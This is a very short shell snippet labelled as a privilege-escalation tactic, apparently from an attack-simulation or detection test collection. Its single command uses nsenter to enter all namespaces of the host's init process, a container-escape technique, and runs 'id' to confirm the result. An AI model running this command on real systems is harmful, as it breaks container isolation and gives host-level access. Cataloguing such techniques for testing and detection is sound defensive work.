# tactic: privilege-escalation
# enter the namespaces of the host's init
nsenter -t 1 -m -u -i -n -p -- sh -c id 2>/dev/null; true
